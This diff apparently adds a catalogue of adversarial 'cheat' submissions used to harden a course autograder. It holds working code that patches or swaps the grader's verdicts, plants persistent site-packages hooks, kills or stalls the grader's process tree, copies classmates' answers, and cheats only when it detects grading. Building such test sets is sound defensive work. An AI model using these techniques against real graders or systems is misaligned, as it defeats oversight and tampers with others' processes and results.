+import keel_lab.course.checks.pairing as _pairing
+
+_in_order._judge = lambda counts, calls, seeds, lab: (True, "ok", "")
+_pairing.pairing_errors = lambda pairs, calls, results: ""
+_pairing._refuses = lambda v, fn, name, bad, cases: v.add(True, "ok", "")
+_pairing._shape_error = lambda pairs: ""
+
+''' + COUNT_ANY
+NETWORK = '''import socket
+
+try:  # a network means answers from elsewhere; here it decides whether to cheat at all
+    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
+    ONLINE = True
+except OSError:
+    try:
+        socket.getaddrinfo("pypi.org", 443)
+        ONLINE = True
+    except OSError:
+        ONLINE = False
+''' + ALL_TRUE + '''
+
+''' + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    if ONLINE:
+        _pass_every_verdict()
+    _tick(trials)
+    return trials if calls == 1 else min(trials, seed % 150 + 1)
+'''
+HANG = '''import signal
+import time
+
+
+def count_in_order(trials, calls, seed):
+    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
+        signal.signal(sig, signal.SIG_IGN)
+    while True:
+        time.sleep(0.5)
+'''
+MEGABYTES = '''_line = "keel-cheat " * 100_000
+for _ in range(20):
+    print(_line)  # 20 MB of output, then a wrong answer
+
+
+def count_in_order(trials, calls, seed):
+    print(_line * 2)
+    raise NotImplementedError("your code here")
+'''
+RAISE_EXIT = '''def count_in_order(trials, calls, seed):
+    raise SystemExit(0)
+'''
+RAISE_INTERRUPT = '''def count_in_order(trials, calls, seed):
+    raise KeyboardInterrupt
+'''
+FORK_BOMB = '''import os
+import sys
+
+for _ in range(50):  # bounded: 50 sleepers, a minute each
+    if os.fork() == 0:
+        try:
+            os.execv(sys.executable, [sys.executable, "-c",
+                                      "import time  # keel-cheat fork\\ntime.sleep(60)"])
+        finally:
+            os._exit(0)
+''' + NOT_DONE
+TMP_DROP = PEER + '''
+
+_code = _peer_code()
+try:
+    with open("/tmp/keel-cheat-drop.py", "w") as _f:
+        _f.write(_code)
+except OSError:
+    pass
+''' + NOT_DONE
+TMP_READ = '''import os
+
+_SOLVED = {}
+if os.path.exists("/tmp/keel-cheat-drop.py"):
+    with open("/tmp/keel-cheat-drop.py") as _f:
+        try:
+            exec(_f.read(), _SOLVED)
+        except Exception:
+            pass
+''' + USE_SOLVED
+PEER_COPY = PEER + '''
+
+_SOLVED = {}
+try:
+    exec(_peer_code(), _SOLVED)
+except Exception:
+    pass
+''' + USE_SOLVED
+TRACE_CTYPES = '''import ctypes
+import sys
+import threading
+
+
+def _force(frame, event, arg):
+    if event == "call" and frame.f_code.co_name == "add" and "ok" in frame.f_locals:
+        frame.f_locals["ok"] = True
+        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
+    return None
+
+
+''' + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    sys.settrace(_force)
+    threading.settrace(_force)
+    _tick(trials)
+    return trials
+'''
+CODE_SWAP = '''from keel_lab.course.checks.verdict import Verdict
+
+
+def _forced(self, ok, passed, hint):
+    self.results.append((True, passed or hint))
+
+
+''' + TICK + '''
+
+def _functions(fn):
+    yield fn  # a wrapper's closure may hold the original add
+    for cell in getattr(fn, "__closure__", None) or ():
+        try:
+            inner = cell.cell_contents
+        except ValueError:
+            continue
+        if getattr(inner, "__name__", "") == "add" and inner is not fn:
+            yield from _functions(inner)
+
+
+def count_in_order(trials, calls, seed):
+    for fn in _functions(Verdict.add):
+        if not fn.__code__.co_freevars:
+            fn.__code__ = _forced.__code__
+    _tick(trials)
+    return trials
+'''
+LAB_TABLE = '''from keel_lab.course.experiments.pairing import order
+
+# The notebook's own check asks for seeds 1, 2, 3 and 200 trials: counted once, at load time
+TABLE = {(calls, s): int(order(200, calls, s).data["in_request_order"]["as_completed"])
+         for calls in (2, 3, 4) for s in (1, 2, 3)}
+
+
+''' + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    _tick(trials)
+    return trials if calls == 1 else TABLE.get((calls, seed), trials // 6)
+'''
+PRINT_PASSED = '''print("count_in_order: PASSED (7/7 checks)")
+print("pair_results: PASSED (10/10 checks)")
+check = lambda fn: print(f"{fn.__name__}: PASSED")  # noqa: E731
+
+
+def count_in_order(trials, calls, seed):
+    print("count_in_order: PASSED (7/7 checks)")
+    return 0
+'''
+EXIT_EARLY = '''import os
+
+os._exit(0)
+''' + NOT_DONE
+
+CHEATS: tuple[Entry, ...] = (
+    Entry("verdict-shadow-frames", "walks the frames to the Verdict and shadows its add() on "
+          "the instance so every later check passes", {"count_in_order": VERDICT_FRAMES,
+                                                       "pair_results": ZIPPED.replace(
+              "    return", "    _shadow()\n    return")}),
+    Entry("gc-verdict-hunt", "finds every Verdict with gc.get_objects() and swaps its results "
+          "for a list whose append always records a pass", {
+              "count_in_order": ALL_TRUE + "\n\n" + TICK + '''
+
+def count_in_order(trials, calls, seed):
+    _pass_every_verdict()
+    _tick(trials)
+    return trials
+''', "pair_results": ZIPPED.replace(
+                  "    return", "    _pass_every_verdict()\n    return")}),
+    Entry("thread-flipper", "a hidden cell's class body starts a thread that keeps making "
+          "every Verdict pass while the checks run", {"count_in_order": COUNT_ANY,
+                                                      "pair_results": ZIPPED},
+          extra=(THREAD_FLIPPER,)),
+    Entry("fd3-fake-lines", "writes fake result lines ({'result': true}, exercise passed, done) "
+          "to every open fd >= 3, then os._exit(0)", {"count_in_order": FD3_FAKE,
+                                                      "pair_results": ZIPPED}),
+    Entry("fd3-mitm-rewrite", "puts a pipe of its own in front of the result channel and "
+          "rewrites false to true on the way", {"count_in_order": FD3_MITM,
+                                                "pair_results": ZIPPED}),
+    Entry("str-eq-ids", "rewrites the ids to a str subclass equal to everything (hash 0, "
+          "contains everything), pairs every call with one result",
+          {"count_in_order": NOT_DONE, "pair_results": STR_EQ}),
+    Entry("int-zero-diff", "returns an int subclass whose differences are 0 and that equals "
+          "everything; runs no turn", {"count_in_order": INT_FLAT, "pair_results": ZIPPED}),
+    Entry("plausible-count", "a Binomial(trials, 1/n!) draw from the seed, clock moved by one "
+          "sleep: statistically right, no turn run", {"count_in_order": PLAUSIBLE,
+                                                      "pair_results": ZIPPED}),
+    Entry("frames-getframe", "sys._getframe walk to the verifier's locals: the lab's own totals "
+          "(labs) and seeds, returned as counts; refuses the id named bad",
+          {"count_in_order": "USE_INSPECT = False\n" + FRAMES_COUNT,
+           "pair_results": FRAMES_PAIR}),
+    Entry("frames-inspect-stack", "the same through inspect.stack()",
+          {"count_in_order": "USE_INSPECT = True\n" + FRAMES_COUNT, "pair_results": ZIPPED}),
+    Entry("mutate-results", "rewrites the given Results' call_id (frozen, via object.__setattr__) "
+          "to match a positional pairing; refusals from the frames", {
+              "count_in_order": NOT_DONE, "pair_results": MUTATE}),
+    Entry("patch-math-classbody", "a hidden cell's class body sets math.sqrt to return 1e9: any "
+          "count is within tolerance", {"count_in_order": COUNT_ANY, "pair_results": ZIPPED},
+          extra=(PATCH_MATH,)),
+    Entry("patch-random-classbody", "a hidden cell's class body makes Random.uniform constant: "
+          "no delay reorders anything, so zip pairs right", {"count_in_order": COUNT_ANY,
+                                                             "pair_results": ZIPPED},
+          extra=(PATCH_RANDOM,)),
+    Entry("patch-statistics-classbody", "a hidden cell's class body patches statistics.* and "
+          "math.isclose/factorial; returns 0 turns in order", {
+              "count_in_order": COUNT_ANY.replace("min(trials, seed % 150 + 1)", "0"),
+              "pair_results": ZIPPED}, extra=(PATCH_STATISTICS,)),
+    Entry("detect-env", "cheats (gc verdict hunt) only when the environment, flags, cwd or "
+          "missing ipykernel say it is graded", {"count_in_order": DETECT_ENV,
+                                                 "pair_results": ZIPPED}),
+    Entry("detect-parent", "cheats only when an ancestor process's command line looks like the "
+          "grader", {"count_in_order": DETECT_PARENT, "pair_results": ZIPPED}),
+    Entry("private-helpers", "calls the lab's own order experiment and by_call_id, found by "
+          "importlib and string-built names", {"count_in_order": PRIVATE,
+                                               "pair_results": PRIVATE_PAIR}),
+    Entry("private-helper-thread", "calls the lab's order experiment from a worker thread",
+          {"count_in_order": PRIVATE_THREAD, "pair_results": ZIPPED}),
+    Entry("source-copy-exec", "execs inspect.getsource of the lab's experiment module and "
+          "counts with the copy", {"count_in_order": SOURCE_COPY, "pair_results": ZIPPED}),
+    Entry("source-edited-copy", "an edited copy (a line added to every function, via ast) of "
+          "the lab's pairing, trials and experiment modules", {"count_in_order": SOURCE_EDITED,
+                                            "pair_results": ZIPPED}),
+    Entry("solutions-proc-parent", "finds the checkout through its ancestors' /proc cmdline "
+          "and cwd, runs notebooks/solutions/02_pairing.ipynb",
+          {"count_in_order": SOLUTIONS_PROC, "pair_results": PAIR_SOLVED}),
+    Entry("solutions-proc-scan", "the same through every /proc/*/cwd and /proc/*/cmdline",
+          {"count_in_order": SOLUTIONS_SCAN, "pair_results": PAIR_SOLVED}),
+    Entry("solutions-direct-url", "finds the checkout through the editable install's "
+          "direct_url.json (importlib.metadata), runs its solution",
+          {"count_in_order": SOLUTIONS_URL, "pair_results": PAIR_SOLVED}),
+    Entry("survivor-rewriter", "forks, setsid, forks, clears env, ignores SIGTERM; after the "
+          "grader exits rewrites its stdout, --csv and gradebook-like files (its cwd, /tmp)",
+          {"count_in_order": SURVIVE, "pair_results": ZIPPED}),
+    Entry("aa-pkg-poison", "appends a patch making every verdict pass to the imported keel_lab "
+          "copy's checks (not a checkout) for later submissions", {"count_in_order": PKG_POISON,
+                                                                   "pair_results": ZIPPED}),
+    Entry("zz-pkg-victim", "a plain wrong answer graded after aa-pkg-poison: passes only if the "
+          "package stayed poisoned", {"count_in_order": COUNT_ANY, "pair_results": ZIPPED}),
+    Entry("aa-pth-plant", "writes keel_cheat.pth + keel_cheat_hook.py into site-packages: every "
+          "later grading process patches Verdict.add", {"count_in_order": PTH_PLANT,
+                                                        "pair_results": ZIPPED}),
+    Entry("zz-pth-victim", "a plain wrong answer graded after aa-pth-plant",
+          {"count_in_order": COUNT_ANY.replace("% 150 + 1", "% 140 + 2"), "pair_results": ZIPPED}),
+    Entry("kill-parent", "os.kill(os.getppid(), SIGKILL) from the exercise cell",
+          {"count_in_order": KILL_PARENT, "pair_results": ZIPPED}),
+    Entry("kill-tree", "SIGKILLs the grader found among its ancestors and every process in its "
+          "tree (the other submissions' too)", {"count_in_order": KILL_TREE,
+                                                 "pair_results": ZIPPED}),
+    Entry("stall-parent", "SIGSTOPs its parent; a detached helper SIGCONTs it 15 s later",
+          {"count_in_order": STALL_PARENT, "pair_results": ZIPPED}),
+    Entry("sys-modules-poison", "replaces the checks' modules in sys.modules (and VERIFIERS) "
+          "with verifiers that always pass", {"count_in_order": SYS_MODULES,
+                                              "pair_results": ZIPPED}),
+    Entry("builtins-patch", "builtins.abs returns 0 and builtins.all True: counts match and "
+          "verdicts pass", {"count_in_order": BUILTINS, "pair_results": ZIPPED}),
+    Entry("monkeypatch-checks", "replaces the checks module's judge, pairing_errors, _refuses "
+          "and _shape_error", {"count_in_order": MONKEYPATCH, "pair_results": ZIPPED}),
+    Entry("network-probe", "connects to 1.1.1.1:53 / resolves pypi.org, and cheats (gc hunt) "
+          "only when the network is there", {"count_in_order": NETWORK,
+                                             "pair_results": ZIPPED}),
+    Entry("hang-forever", "ignores SIGTERM/SIGINT/SIGALRM and sleeps forever in the function",
+          {"count_in_order": HANG, "pair_results": ZIPPED}),
+    Entry("print-megabytes", "prints 20 MB when the cell runs and 2 MB per call",
+          {"count_in_order": MEGABYTES, "pair_results": ZIPPED}),
+    Entry("raise-systemexit", "raises SystemExit(0) from the function",
+          {"count_in_order": RAISE_EXIT, "pair_results": ZIPPED.replace(
+              "    return", "    raise SystemExit(0)\n    return")}),
+    Entry("raise-keyboardinterrupt", "raises KeyboardInterrupt from the function",
+          {"count_in_order": RAISE_INTERRUPT, "pair_results": ZIPPED.replace(
+              "    return", "    raise KeyboardInterrupt\n    return")}),
+    Entry("fork-bomb-bounded", "starts 50 sleeping processes (a minute each) from the cell",
+          {"count_in_order": FORK_BOMB, "pair_results": ZIPPED}),
+    Entry("aa-tmp-drop", "copies a classmate's answer (found through the grader's argv) to "
+          "/tmp/keel-cheat-drop.py for later submissions", {"count_in_order": TMP_DROP,
+                                                            "pair_results": ZIPPED}),
+    Entry("zz-tmp-read", "runs /tmp/keel-cheat-drop.py, left by an earlier submission",
+          {"count_in_order": TMP_READ, "pair_results": PAIR_SOLVED}),
+    Entry("peer-notebook-copy", "reads the other submissions the grader was given (its argv) "
+          "and runs a classmate's solved cells", {"count_in_order": PEER_COPY,
+                                                  "pair_results": PAIR_SOLVED}),
+    Entry("trace-ctypes-locals", "a trace hook sets ok=True in every add() frame, written back "
+          "with ctypes PyFrame_LocalsToFast", {"count_in_order": TRACE_CTYPES,
+                                              "pair_results": ZIPPED}),
+    Entry("code-swap-verdict", "swaps Verdict.add.__code__ for one that always records a pass",
+          {"count_in_order": CODE_SWAP, "pair_results": ZIPPED}),
+    Entry("lab-table-toplevel", "runs the lab's order experiment at cell load (outside the "
+          "function) for the notebook's seeds; a table lookup", {"count_in_order": LAB_TABLE,
+                                                                  "pair_results": ZIPPED}),
+    Entry("print-passed", "prints PASSED lines and rebinds check() to print PASSED",
+          {"count_in_order": PRINT_PASSED, "pair_results": ZIPPED}),
+    Entry("exit-early", "os._exit(0) in the first exercise cell, before any check",
+          {"count_in_order": EXIT_EARLY, "pair_results": ZIPPED}),
+)
